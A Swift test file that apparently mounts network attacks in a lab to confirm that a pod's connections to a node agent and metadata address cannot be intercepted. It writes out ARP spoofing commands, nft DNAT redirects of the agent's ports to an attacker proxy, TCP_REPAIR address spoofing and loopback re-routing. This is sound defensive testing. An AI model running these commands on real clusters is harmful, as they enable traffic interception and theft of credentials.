import Foundation

/// A2, A2b, A14 and A15: who could be at the far end of a pod's connection, or between its ends. Connections do not
/// leave their pod's network namespace: from outside of it there is nothing to answer, to translate, to sniff or to lend.
///
/// Rows of the mechanism before, which led connections to a port of the node's, went with it: claims and their table
/// (planted, torn, second claim), announced SYNs and their flood, spoofed handshakes with the agent's port, the mark for
/// meshes. So did the congestion control that is set late: none of a socket's options takes part in the take-over.
/// Lending by splice has no row either: it needs the sequence number of a SYN that was seen, and none is to be seen.
/// Translation that lends another's address inside a pod is tried in `InPodTests`.
extension AttackSuite {
    var farEnds: [Attack] {
        [unseen, spoofed] + translated + [repaired, sameAddress, offLoopback, ownTranslation]
    }

    /// The victim asks while everything that passes a device is read.
    private var unseen: Attack {
        Attack("A14", .remote, "reads every frame on every device while the victim asks", .text("no frame")) {
            let capture = try DeviceCapture(in: world.node.network)
            for _ in 0..<20 {
                let output = try await stage.got(["connect", "plain"] + Self.metadata, .unprivileged, in: target)
                guard Loot(output, world: world).owners == [target.uid] else { throw AttackNotMounted(output) }
            }
            // A frame that must be seen: the capture works.
            _ = try await stage.got(
                ["connect", "peer", LabNode.address, "\(AttackStage.openPort)"], .unprivileged, in: target)
            try await Self.passed(capture)
            let counts = capture.stop()
            return (counts.exchanges == 0 ? "no frame" : "\(counts.exchanges) FRAMES") + " of \(counts.frames)"
        }
    }

    /// Waits until the frames of something that was sent have been read.
    private static func passed(_ capture: DeviceCapture) async throws {
        let deadline = ContinuousClock.now + .seconds(60)
        while capture.seen == 0 {
            guard ContinuousClock.now < deadline else { throw AttackNotMounted("the capture sees nothing") }
            await Task.yield()
        }
    }

    /// The victim's pod believes that the node, and the node that the victim, is at the attacker's address.
    private var spoofed: Attack {
        Attack(
            "A14", .ordinary, "ARP both ways: answers in the node's place, and in the victim's", .ownIdentity,
            own: stage.bystander
        ) {
            // Not from /sys, which shows the machine's devices whatever the network namespace.
            let link = try await Command.require(["ip", "-n", mallory.network.name, "-br", "link", "show", "eth0"])
            let words = link.split(separator: " ")
            guard words.count > 2 else { throw AttackNotMounted("the attacker has no hardware address: \(link)") }
            let (hardware, victim) = (String(words[2]), stage.bystander)
            try await victim.network.ip("neigh replace \(LabNode.address) lladdr \(hardware) dev eth0 nud permanent")
            try await world.node.network.ip("neigh replace \(victim.address) lladdr \(hardware) dev br0 nud permanent")
            let output = try await stage.got(["connect", "plain"] + Self.metadata, .unprivileged, in: victim)
            try await victim.network.ip("neigh del \(LabNode.address) dev eth0")
            try await world.node.network.ip("neigh del \(victim.address) dev br0")
            return output
        }
    }

    /// Attacks by hostPort and externalIPs: the node translates the agent's ports to a pod's.
    private var translated: [Attack] {
        [("hostPort", "fib daddr type local"), ("externalIPs", "ip daddr { 127.0.0.1, \(LabNode.address) }")].map {
            name, match in
            Attack("A15", .tenant, "\(name) for the agent's ports, to a server of the attacker's", .text("nobody")) {
                let server = try await stage.began(
                    mallory.start([try Attacker.program(), "proxy", "7777"]), "listening")
                let ports = "\(AgentProcess.port - 7)-\(AgentProcess.port)"
                let rule = "\(match) tcp dport \(ports) dnat ip to \(mallory.address):7777"
                try await nft(
                    """
                    table inet tenant { chain in { type nat hook prerouting priority -100; \(rule); }; \
                    chain out { type nat hook output priority -100; \(rule); }; }
                    """)
                var outputs: [String] = []
                for pod in [stage.bystander, target] {
                    outputs.append(try await stage.got(["connect", "plain"] + Self.metadata, .unprivileged, in: pod))
                }
                try await nft("delete table inet tenant")
                server.signal(SIGKILL)
                let reached = await server.result().output.split(separator: "\n").count
                let isServed = zip(outputs, [stage.bystander, target]).allSatisfy {
                    Loot($0, world: world).owners == [$1.uid]
                }
                return (reached == 0 && isServed ? "nobody" : "\(reached) CONNECTIONS") + " reached the server"
            }
        }
    }

    private func nft(_ rules: String) async throws {
        let command = ["nsenter", "--net=\(world.node.network.path)", "--", "nft", rules]
        let result = try await Command.run(command)
        guard result.succeeded else { throw AttackNotMounted("nft: \(result.errorOutput)") }
    }

    /// A socket that is established without a handshake has no far end.
    private var repaired: Attack {
        Attack("A2b", .namespaced, "TCP_REPAIR with the victim's address and port", .nothing) {
            try await inNamespace(
                """
                ip link set lo up && ip addr add \(target.address)/32 dev lo && \
                ip route add default dev lo src \(target.address) && \
                exec "$0" repair \(target.address) 40000 169.254.169.254 80
                """)
        }
    }

    private var sameAddress: Attack {
        Attack(
            "A2", .namespaced, "the victim's and the node's address in a namespace", .ownIdentityOrNoToken
        ) {
            try await inNamespace(
                """
                ip link set lo up && ip addr add \(target.address)/32 dev lo && \
                ip addr add \(LabNode.address)/32 dev lo && exec "$0" connect plain 169.254.169.254 80
                """)
        }
    }

    /// 127.0.0.1 is taken off the loopback device and routed to the node, which serves it there.
    private var offLoopback: Attack {
        Attack("A14", .namespaced, "routes 127.0.0.1 out of the pod, where others listen", .text("no frame")) {
            let pod = try await world.addPod("astray", namespace: "mallory")
            // The listener is there: with the first answer.
            _ = try await stage.got(["connect", "plain"] + Self.metadata, .unprivileged, in: pod)
            try await Command.require(
                ["nsenter", "--net=\(world.node.network.path)", "sysctl", "-qw", "net.ipv4.conf.all.route_localnet=1"])
            try await Command.require(
                ["nsenter", "--net=\(pod.network.path)", "sysctl", "-qw", "net.ipv4.conf.all.route_localnet=1"])
            try await pod.network.tryIP(
                """
                link set lo down
                route del local 127.0.0.1 dev lo table local
                route add 127.0.0.1/32 via \(LabNode.address) dev eth0 src \(pod.address)
                """)
            let capture = try DeviceCapture(in: world.node.network)
            let output = try await stage.got(["connect", "plain"] + Self.metadata, .unprivileged, in: pod)
            let counts = capture.stop()
            await world.deletePod(pod)
            let isQuiet = counts.exchanges == 0 && !Loot(output, world: world).isAnswered
            return (isQuiet ? "no frame" : "\(counts.exchanges) FRAMES") + ", " + output
        }
    }

    /// The pod's own rules turn the connection to a server in the same pod: no other pod is harmed, and none is
    /// served.
    ///
    /// The pod goes with the row. The kernel keeps the translation of each connection for five days, without the rule
    /// (conntrack). It would turn later connections of the same pod to a server that has ended.
    private var ownTranslation: Attack {
        Attack("A14", .ordinary, "DNAT inside the pod, of the agent's port to its own server", .nothing) {
            let pod = try await world.addPod("turned", namespace: "mallory")
            let output: String
            do {
                output = try await turned(in: pod)
            } catch {
                await world.deletePod(pod)
                throw error
            }
            await world.deletePod(pod)
            return output
        }
    }

    private func turned(in pod: RunningPod) async throws -> String {
        let server = try await stage.began(pod.start([try Attacker.program(), "proxy", "7778"]), "listening")
        defer { server.signal(SIGKILL) }
        let rule = "tcp dport \(AgentProcess.port - 7)-\(AgentProcess.port) redirect to :7778"
        let result = try await Command.run([
            "nsenter", "--net=\(pod.network.path)", "--", "nft",
            "table inet own { chain out { type nat hook output priority -100; \(rule); }; }",
        ])
        guard result.succeeded else { throw AttackNotMounted("nft: \(result.errorOutput)") }
        return try await stage.got(["connect", "plain"] + Self.metadata, .unprivileged, in: pod)
    }

    private func inNamespace(_ script: String) async throws -> String {
        let program = try Attacker.program()
        return try AttackStage.output(
            of: await mallory.start(Attacker.namespaced.confine(["sh", "-c", script, program])).result())
    }
}
